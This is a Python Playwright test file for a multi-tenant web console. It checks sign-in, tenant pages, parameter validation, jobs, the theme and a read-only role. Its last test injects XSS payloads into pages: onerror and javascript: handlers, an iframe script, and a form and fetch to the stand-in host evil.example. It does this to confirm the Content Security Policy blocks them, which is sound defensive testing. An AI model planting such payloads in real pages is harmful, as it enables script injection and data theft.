"""The console as a person sees it, in a real browser."""

from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import pytest

expect = pytest.importorskip("playwright.sync_api").expect
expect.set_options(timeout=20_000)  # a loaded machine may take its time


@pytest.fixture(scope="module")
def contexts(served: Any, browser: Any) -> Callable[[str, str], Any]:
    """A signed-in browser profile per company and role: kept, so that NiceGUI's scripts
    are loaded once.
    """

    @cache
    def signed_in(company: str, role: str) -> Any:
        context = browser.new_context(
            viewport={"width": 1280, "height": 860}, base_url=served.address
        )
        page = context.new_page()
        page.goto("/console/")
        page.get_by_label("API key").fill(served.keys[company][role])
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/console/")
        page.close()
        return context

    return signed_in


@pytest.fixture
def visit(served: Any, contexts: Callable[[str, str], Any]) -> Iterator[Callable[..., Any]]:
    """Opens a page as a company; at the end, nothing may have failed in it or come from
    elsewhere.
    """
    faults: list[str] = []
    pages = []

    def open_page(path: str = "/console/", company: str = "acme", role: str = "editor") -> Any:
        page = contexts(company, role).new_page()
        pages.append(page)
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on(
            "console",
            lambda message: faults.append(message.text) if message.type == "error" else None,
        )
        page.on(
            "request",
            lambda r: (
                faults.append(r.url)
                if not r.url.startswith((served.address, "ws://127.0.0.1", "data:", "blob:"))
                else None
            ),
        )
        page.goto(path)
        page.wait_for_function(
            "window.did_handshake"
        )  # before it, a click may overtake what was typed
        return page

    yield open_page
    for page in pages:
        page.close()
    assert not faults


def test_the_overview_shows_each_capability_and_its_state(visit: Callable[..., Any]) -> None:
    page = visit()
    expect(page.get_by_text("2 of 3 capabilities are running.")).to_be_visible()
    expect(page.get_by_text("unhealthy · 0.1.0")).to_be_visible()
    expect(page.get_by_text("No module named 'absent'")).to_be_visible()
    expect(page.get_by_role("link", name="Open greeting")).to_have_attribute(
        "href", "/console/greeting"
    )


def test_a_page_acts_for_its_tenant_and_shows_errors(
    visit: Callable[..., Any],
) -> None:
    page = visit("/console/greeting")
    page.get_by_label("Name").fill("Mei")
    page.get_by_role("button", name="Greet").click()
    expect(page.get_by_text("Hello Mei, from acme")).to_be_visible()
    page.get_by_label("Name").fill("nobody")
    page.get_by_role("button", name="Greet").click()
    expect(page.get_by_text("nobody is not here")).to_be_visible()


def test_a_failing_page_hides_the_exception(visit: Callable[..., Any]) -> None:
    page = visit("/console/cracked")
    expect(page.get_by_text("Something went wrong on this page")).to_be_visible()
    assert "a secret of the plugin" not in page.content()
    expect(page.get_by_role("link", name="greeting")).to_be_visible()


def test_parameters_are_saved_and_invalid_ones_refused(
    visit: Callable[..., Any],
) -> None:
    page = visit("/console/greeting/parameters")
    page.get_by_role("spinbutton", name="warmth").fill("0.9")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("own value")).to_have_count(1)
    page.get_by_role("spinbutton", name="warmth").fill("7")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Must be less than or equal to 1.", exact=True)).to_be_visible()
    page.get_by_role("button", name="Reset to defaults").click()
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("own value")).to_have_count(0)


def test_a_readers_page_is_read_only_and_fits_phones(
    visit: Callable[..., Any],
) -> None:
    page = visit("/console/greeting/parameters", role="reader")
    expect(page.get_by_role("spinbutton", name="warmth")).to_be_disabled()
    expect(page.get_by_role("button", name="Save")).to_have_count(0)
    page.set_viewport_size({"width": 390, "height": 800})
    page.wait_for_function("document.documentElement.scrollWidth <= 390")
    page.get_by_role("button", name="Show or hide the capabilities").click()
    expect(page.get_by_role("link", name="greeting").last).to_be_visible()


def test_a_job_is_run_now_or_with_arguments(visit: Callable[..., Any]) -> None:
    page = visit("/console/greeting/jobs")
    page.get_by_role("button", name="Run now").click()
    expect(page.get_by_text("queued", exact=True)).to_have_count(1)
    page.get_by_role("button", name="Run…").click()
    page.get_by_label("Arguments").fill("[1]")
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.get_by_text("must be a JSON object")).to_be_visible()
    page.get_by_role("button", name="Run…").click()
    page.get_by_label("Arguments").fill('{"crowd": 3}')
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.get_by_text("queued", exact=True)).to_have_count(2)


def test_the_theme_is_switched_and_remembered(visit: Callable[..., Any]) -> None:
    page = visit(role="reader")
    dark = page.locator("body.body--dark")
    expect(dark).to_have_count(0)
    page.get_by_role("button", name="Light or dark").click()
    expect(dark).to_have_count(1)
    assert "shoal_theme=dark" in page.evaluate("document.cookie")
    page.reload()
    expect(dark).to_have_count(1)


@pytest.mark.parametrize("tab", ["", "/parameters", "/jobs", "/events", "/api"])
def test_every_tab_works_under_the_policy(visit: Callable[..., Any], tab: str) -> None:
    page = visit(f"/console/greeting{tab}")
    expect(page.get_by_text("Says <b>hello</b>.")).to_be_visible()


def test_the_public_pages_work_under_the_policy(served: Any, browser: Any) -> None:
    faults: list[str] = []
    page = browser.new_page(base_url=served.address)
    page.on(
        "console",
        lambda message: faults.append(message.text) if message.type == "error" else None,
    )
    page.goto("/")
    expect(page.locator(".sh-dot.sh-good").first).to_be_visible()  # set by the page's script
    page.goto("/console/sign-in")
    expect(page.get_by_label("API key")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.querySelector('.sh-card')).padding") == "32px"
    page.close()
    assert not faults


INJECTED = """
const refused = [];
document.addEventListener("securitypolicyviolation", e => refused.push(e.effectiveDirective));
window.injected = false;
const markup = ["<img src=x: onerror='injected = true'>", "<a href='javascript:injected = true'>x",
  "<form action='https://evil.example/'><input name=x></form>",
  "<iframe srcdoc='<script>parent.injected = true</script>'></iframe>"];
document.body.insertAdjacentHTML("beforeend", `<div id=evil>${markup.join("")}</div>`);
document.querySelector("#evil a").click();
document.querySelector("#evil form").submit();
const script = document.createElement("script");
script.textContent = "injected = true";
document.body.append(script);
fetch("https://evil.example/").catch(() => {});
setTimeout(() => done([injected, refused]), 500);
"""


@pytest.mark.parametrize("path", ["/", "/console/sign-in", "/console/greeting"])
def test_what_is_injected_into_a_page_does_not_run(
    contexts: Callable[[str, str], Any], path: str
) -> None:
    page = contexts("acme", "editor").new_page()
    page.goto(path)
    page.wait_for_load_state("networkidle")
    ran, refused = page.evaluate(f"new Promise(done => {{ {INJECTED} }})")
    page.close()
    assert not ran
    assert {"script-src-attr", "script-src-elem", "form-action", "connect-src"} <= set(refused)
